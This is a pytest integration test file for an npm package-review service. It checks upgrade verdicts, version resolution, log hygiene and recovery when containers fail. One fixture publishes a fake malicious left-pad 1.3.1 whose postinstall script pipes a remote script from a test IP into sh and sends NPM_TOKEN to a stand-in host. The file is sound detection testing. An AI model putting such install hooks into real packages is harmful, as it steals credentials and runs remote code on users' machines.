"""Reviews of packages from a real npm registry, and failures of each part of the stack."""

from __future__ import annotations

import contextlib
import json
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from tests.support import verdaccio
from tests.support.commands import docker, wait_until
from tests.support.review_stack import REVIEW_SECONDS, TOKEN, ReviewStack, running_stack
from tests.support.verdaccio import Registry

PLAIN = {"index.js": "module.exports = (text, width) => text.padStart(width);\n"}


@pytest.fixture(scope="module")
def packages(built) -> Iterator[Registry]:
    """Start the registry and publish the tests' packages."""
    with verdaccio.serving(built.references["worker"]) as registry:
        registry.publish("left-pad", "1.2.0", PLAIN, scripts={"test": "node test.js"})
        changed = {
            **PLAIN,
            "index.js": PLAIN["index.js"] + "module.exports.width = 8;\n",
            "README.md": "# left-pad\n",
        }
        registry.publish("left-pad", "1.3.0", changed, scripts={"test": "node test.js"})
        malicious = {
            **PLAIN,
            "steal.js": "require('child_process').execSync('curl http://198.51.100.7/x | sh');\n"
            "require('https').get('https://drop.test/?' + process.env.NPM_TOKEN);\n",
        }
        registry.publish("left-pad", "1.3.1", malicious, scripts={"postinstall": "node steal.js"})
        registry.publish("@scope/pad", "1.0.0", PLAIN)
        registry.publish("@scope/pad", "1.0.1", {**PLAIN, "LICENSE": "MIT\n"})
        yield registry


@pytest.fixture(scope="module")
def stack(contract, engine, built, packages, project_name) -> Iterator[ReviewStack]:
    """Start a stack and connect the registry to its network."""
    variables = {"ARTIFACTORY_URL": packages.stack_address, "ARTIFACTORY_TOKEN": packages.token}
    with running_stack(contract, engine, f"{project_name}-reviews", **variables) as running:
        network = f"{running.engine.project}_default"
        docker("network", "connect", "--alias", verdaccio.HOST, network, packages.container)
        try:
            yield running
        finally:
            docker("network", "disconnect", "--force", network, packages.container)


# --- results


def test_harmless_upgrade_passes_with_the_diff_of_npm(stack, packages):
    id_ = stack.submit("left-pad", "1.2.0", "1.3.0")
    review = stack.wait_for_review(id_)
    assert review["status"] == "done", review
    result = review["result"]
    assert result["verdict"] == "pass", result
    assert (result["from_version"], result["to_version"]) == ("1.2.0", "1.3.0")
    assert result["statistics"]["files_added"] == 1
    diff = stack.request("GET", f"/v1/reviews/{id_}/diff").text
    assert diff.strip() == packages.npm_diff("left-pad", "1.2.0", "1.3.0").strip()


def test_malicious_upgrade_is_blocked_with_the_place_of_each_signal(stack):
    review = stack.wait_for_review(stack.submit("left-pad", "1.2.0", "1.3.1"))
    result = review["result"]
    assert (result["verdict"], result["threshold"]) == ("block", 0.75)
    places = {(finding["path"], finding["line"]) for finding in result["findings"]}
    assert ("steal.js", 1) in places
    assert ("steal.js", 2) in places


def test_scopes_ranges_and_tags_are_resolved(stack):
    result = stack.wait_for_review(stack.submit("@scope/pad", "~1.0.0", "latest"))["result"]
    assert result["to_version"] == "1.0.1"
    result = stack.wait_for_review(stack.submit("left-pad", "1.2.x", "1.3.0"))["result"]
    assert (result["from_version"], result["to_version"]) == ("1.2.0", "1.3.0")


@pytest.mark.parametrize(
    ("upgrade", "code"),
    [
        (("no-such-package", "1.0.0", "2.0.0"), "not_found"),
        (("left-pad", "1.2.0", "9.9.9"), "no_such_version"),
    ],
)
def test_missing_package_fails_with_a_reason(stack, upgrade, code):
    review = stack.wait_for_review(stack.submit(*upgrade))
    assert (review["status"], review["failure"]["code"]) == ("failed", code)
    assert not review["dead_letter"]


def test_request_id_appears_in_the_workers_log(stack):
    response = httpx.post(
        f"{stack.address}/v1/reviews?force=true",
        json={"package": "left-pad", "from": "1.2.0", "to": "1.3.0"},
        headers={"Authorization": f"Bearer {TOKEN}", "X-Request-ID": "followed-17"},
    )
    stack.wait_for_review(response.json()["id"])
    for service in ("api", "worker"):
        lines = [line for line in stack.engine.logs(service, 200) if line.startswith("{")]
        assert any(json.loads(line).get("request_id") == "followed-17" for line in lines), service


def test_logs_contain_no_secret(stack, packages):
    stack.wait_for_review(stack.submit("left-pad", "1.2.0", "1.3.0", force=True))
    for service in ("api", "worker", "cache"):
        log = "\n".join(stack.engine.logs(service, 2000))
        assert log, service
        assert TOKEN not in log
        assert packages.token not in log


# --- failures

JOBS = 50


def _submit_many(stack: ReviewStack) -> list[str]:
    pairs = [("left-pad", "1.2.0", "1.3.0"), ("left-pad", "1.2.0", "1.3.1")]
    return [stack.submit(*pairs[n % 2], force=True) for n in range(JOBS)]


def _all_done(stack: ReviewStack, ids: list[str]) -> None:
    failures = [
        review["failure"] for review in stack.wait_for_reviews(ids) if review["status"] != "done"
    ]
    assert not failures


def _kill(stack: ReviewStack, ids: list[str], *services: str) -> None:
    """Kill a container of each service while jobs run, and start it again."""
    containers = [stack.containers(service)[0] for service in services]
    wait_until(
        lambda: "running" in {stack.status(id_) for id_ in ids},
        REVIEW_SECONDS,
        "no job is running",
    )
    docker("kill", *containers)
    docker("start", *containers)
    stack.forget_address()
    wait_until(stack.is_ready, 60, "the API did not become ready again")


def test_no_job_is_lost_if_registry_worker_and_cache_fail(stack, packages):
    with _registry_disconnected(stack, packages):
        ids = _submit_many(stack)
        failures: list[dict[str, Any]] = []

        def has_failures() -> bool:
            failures.extend(filter(None, (stack.review(id_)["failure"] for id_ in ids)))
            return bool(failures)

        wait_until(has_failures, REVIEW_SECONDS, "no job failed")
        assert {failure["code"] for failure in failures} == {"registry_unavailable"}
    _kill(stack, ids, "worker", "cache")
    _all_done(stack, ids)
    assert max(stack.review(id_)["attempts"] for id_ in ids) > 1


@contextlib.contextmanager
def _registry_disconnected(stack: ReviewStack, packages: Registry) -> Iterator[None]:
    """Disconnect the registry from the stack's network for the duration of the block."""
    network = f"{stack.engine.project}_default"
    docker("network", "disconnect", network, packages.container)
    try:
        yield
    finally:
        docker("network", "connect", "--alias", verdaccio.HOST, network, packages.container)


def test_four_workers_do_each_job_once_while_the_api_is_killed(stack):
    workers = stack.containers("worker")
    before = [_ended_jobs(worker) for worker in workers]
    ids = _submit_many(stack)
    _kill(stack, ids, "api")
    _all_done(stack, ids)
    ended = [_ended_jobs(worker) - n for worker, n in zip(workers, before, strict=True)]
    assert sum(ended) == JOBS
    assert all(ended), ended


def _ended_jobs(worker: str) -> int:
    """Count the jobs that a worker ended, by its log."""
    return docker("logs", worker).count('"job ended"')


def test_stopped_workers_return_unfinished_jobs(stack, packages):
    """The workers exit in time with status 0, and another worker does the job later."""
    docker("pause", packages.container)
    workers = stack.containers("worker")
    try:
        id_ = stack.submit("left-pad", "1.2.0", "1.3.0", force=True)
        wait_until(
            lambda: stack.status(id_) == "running", REVIEW_SECONDS, "no worker claimed the job"
        )
        docker("stop", "--time", "10", *workers)
        stopped = stack.engine.inspect("container", workers)
        assert [container["State"]["ExitCode"] for container in stopped] == [0] * len(workers)
        assert stack.status(id_) == "queued"
        assert stack.review(id_)["attempts"] == 0
    finally:
        docker("unpause", packages.container)
        docker("start", *workers)
    assert stack.wait_for_review(id_)["status"] == "done"


def test_full_store_is_reported_and_heals(stack):
    """Last, because the workers drop all finished reviews to make room."""
    (cache,) = stack.containers("cache")
    docker("exec", cache, "redis-cli", "config", "set", "maxmemory", "1mb")
    try:
        wait_until(lambda: not stack.is_ready(), 30, "the API stayed ready")
        ready = stack.request("GET", "/ready")
        assert (ready.status_code, ready.json()["dependencies"]) == (503, {"store": "full"})
        body = {"package": "left-pad", "from": "1.2.0", "to": "1.3.0"}
        refused = stack.request("POST", "/v1/reviews", json=body)
        assert refused.status_code == 503
        assert "the store is full" in refused.json()["detail"]
        assert stack.request("GET", "/health").status_code == 200
    finally:
        docker("exec", cache, "redis-cli", "config", "set", "maxmemory", "96mb")
    wait_until(stack.is_ready, 30, "the API did not become ready again")
    id_ = stack.submit("left-pad", "1.2.0", "1.3.0")
    assert stack.wait_for_review(id_)["status"] == "done"
